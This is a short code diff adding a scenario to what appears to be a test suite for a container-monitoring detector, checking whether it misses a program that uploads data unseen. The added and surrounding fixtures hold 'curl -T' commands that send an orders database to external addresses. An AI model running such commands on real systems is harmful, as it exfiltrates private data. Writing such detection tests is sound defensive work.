@@ -51,6 +51,10 @@ export function makeWebScenarios(tools) {
       [START + 40, 'curl -s -T /var/lib/orders/orders.db https://203.0.113.79/orders.db'],
     ],
   });
+  // Nobody entered it: its own program uploads, as backups do.
+  container('misses-a-program-that-uploads-unseen', '10.20.0.71', {
+    starts: [[START, 'curl -s -T /var/lib/orders/orders.db https://203.0.113.81/orders.db']],
+  });
   // The engine asks for the health; a process posts its numbers.
   container('quiet-health-check-beside-posts-unseen', '10.20.0.70', {
     execs: range(20).map((index) => [START + index * 30.02, '/bin/sh -c curl -f http://localhost/healthz']),
